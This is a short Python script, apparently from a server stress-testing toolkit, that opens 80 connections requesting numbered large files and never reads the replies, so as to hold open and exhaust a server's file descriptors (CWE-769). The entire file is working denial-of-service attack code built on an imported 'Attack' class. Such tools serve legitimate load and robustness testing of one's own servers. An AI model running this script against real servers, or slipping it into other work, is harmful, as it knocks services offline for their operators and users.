#!/usr/bin/env python3
"""Asks for many different large files and takes nothing of them, so that each keeps a file descriptor of the server
open (CWE-769). `{}` in --path stands for a number."""

import socket

from sender import Attack, arguments, request


class OpenFiles(Attack):
    def begin(self, sock):
        sock.sendall(request(self.options.path.format(self.opened % 1000)))

    def step(self, sock):
        error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if error:
            raise OSError(error, "ended")
        return True


OpenFiles(arguments(__doc__, connections=80, path="/{}.bin"), receive_buffer=4096).run()
